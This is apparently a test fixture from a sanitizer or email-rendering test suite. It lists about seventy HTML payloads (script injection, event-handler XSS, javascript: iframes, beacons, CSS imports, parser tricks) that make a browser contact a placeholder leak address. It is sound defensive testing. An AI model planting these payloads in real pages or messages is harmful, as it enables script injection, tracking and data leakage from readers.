"""HTML of messages that mean harm. `{leak}` is an address that nobody may connect to.

Each one is caught by a server that listens there when a browser opens it as a plain page.
"""

FETCH = "fetch('{leak}/script')"
FRAMED = f"&lt;script&gt;{FETCH}&lt;/script&gt;"

LEAKS = {
    "image": '<img src="{leak}/a.gif">',
    "image without quotes": "<img src={leak}/a.gif>",
    "srcset": '<img srcset="{leak}/a.gif 1x">',
    "picture": '<picture><source srcset="{leak}/a.gif"><img></picture>',
    "input image": '<input type="image" src="{leak}/a.gif">',
    "body background": '<body background="{leak}/a.gif">x',
    "table background": '<table background="{leak}/a.gif"><tr><td>x</table>',
    "inline style": "<p style=\"background:url('{leak}/a.gif')\">x",
    "style sheet": "<style>p{{background:url({leak}/a.gif)}}</style><p>x",
    "CSS import": "<style>@import '{leak}/a.css';</style>",
    "CSS escapes": "<style>@\\69mport '{leak}/a.css';</style>",
    "list style": "<style>li{{list-style-image:url({leak}/a.gif)}}</style><ul><li>x</ul>",
    "border image": '<p style="border:1px solid;border-image:url({leak}/a.gif) 1">x',
    "content": "<style>p::before{{content:url({leak}/a.gif)}}</style><p>x",
    "mask": '<p style="mask-image:url({leak}/a.svg)">x',
    "image-set": "<p style=\"background:image-set('{leak}/a.gif' 1x)\">x",
    "font": "<style>@font-face{{font-family:f;src:url({leak}/a.woff)}}"
    "p{{font-family:f}}</style><p>x",
    "link stylesheet": '<link rel="stylesheet" href="{leak}/a.css">',
    "link in the body": '<body><p>x<LINK REL=stylesheet HREF="{leak}/a.css">',
    "link preconnect": '<link rel="preconnect" href="{leak}">',
    "link preconnect, slashes": '<link/rel="preconnect"/href="{leak}">',
    "link preload": '<link rel="preload" as="image" href="{leak}/a.gif">',
    "link modulepreload": '<link rel="modulepreload" href="{leak}/a.js">',
    "link prefetch": '<link rel="prefetch" href="{leak}/a.gif">',
    "link icon": '<link rel="icon" href="{leak}/a.gif">',
    "svg in a link's clothes": '<svg><image href="{leak}/a.gif"/></svg>',
    "svg style": "<svg><style>@import '{leak}/a.css';</style></svg>",
    "svg filter": '<svg><filter id="f"><feImage href="{leak}/a.gif"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "script": f"<script>{FETCH}</script>",
    "script file": '<script src="{leak}/a.js"></script>',
    "module": "<script type=module>import '{leak}/a.js'</script>",
    "svg script": f"<svg><script>{FETCH}</script></svg>",
    "onerror": f'<img src="x:" onerror="{FETCH}">',
    "onload": f'<svg onload="{FETCH}">',
    "body onload": f'<body onload="{FETCH}">',
    "autofocus": f'<input autofocus onfocus="{FETCH}">',
    "toggle": f'<details open ontoggle="{FETCH}">x</details>',
    "animation": f'<style>@keyframes x{{{{}}}}</style><p style="animation:x 1s" '
    f'onanimationstart="{FETCH}">x',
    "beacon": "<script>navigator.sendBeacon('{leak}/beacon')</script>",
    "web socket": "<script>new WebSocket('{leak}'.replace('http', 'ws'))</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{leak}')\"])))</script>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url={leak}/page">',
    "meta refresh to script": '<meta http-equiv="refresh" content="0;url=\'{leak}/page\'">',
    "form that sends itself": '<form action="{leak}/form"></form>'
    "<script>document.forms[0].submit()</script>",
    "iframe": '<iframe src="{leak}/frame"></iframe>',
    "iframe, slashes": '<IFRAME/src="{leak}/frame"></IFRAME>',
    "frame": '<frameset><frame src="{leak}/frame"></frameset>',
    "iframe with a link": '<iframe srcdoc="&lt;link rel=preconnect href={leak}&gt;"></iframe>',
    "iframe in a shadow root": '<p><template shadowrootmode="open"><iframe src="{leak}/frame">'
    "</iframe></template></p>",
    "iframe with a document": f'<iframe srcdoc="{FRAMED}"></iframe>',
    "iframe with an image": '<iframe srcdoc="&lt;img src={leak}/a.gif&gt;"></iframe>',
    "iframe javascript": f'<iframe src="javascript:{FETCH}"></iframe>',
    "object": '<object data="{leak}/a.html"></object>',
    "embed": '<embed src="{leak}/a.html">',
    "video": '<video src="{leak}/a.mp4" preload="auto"></video>',
    "video poster": '<video poster="{leak}/a.gif"></video>',
    "audio": '<audio src="{leak}/a.mp3" preload="auto"></audio>',
    "track": '<video src="data:video/mp4,x" crossorigin><track default src="{leak}/a.vtt"></video>'
    '<img src="{leak}/a.gif">',
    "base": '<base href="{leak}/"><img src="a.gif">',
    "shadow root": '<p><template shadowrootmode="open"><img src="{leak}/a.gif"></template></p>',
    "shadow link": '<p><template shadowrootmode="open"><link rel="stylesheet" href="{leak}/a.css">'
    "</template></p>",
    "unfinished comment": '<!--><img src="{leak}/a.gif">-->',
    "tag in an attribute": "<p title='<img src={leak}/b.gif>'><img src={leak}/a.gif>",
    "within a title": '<title><img></title><img src="{leak}/a.gif">',
    "NUL in the name": '<img\x00><img src="{leak}/a.gif">',
    "protocol-relative": '<img src="//{host}/a.gif">',
    "speculation rules": '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":'
    '["{leak}/a.html"]}}]}}</script><img src="{leak}/a.gif">',
}  # fmt: skip
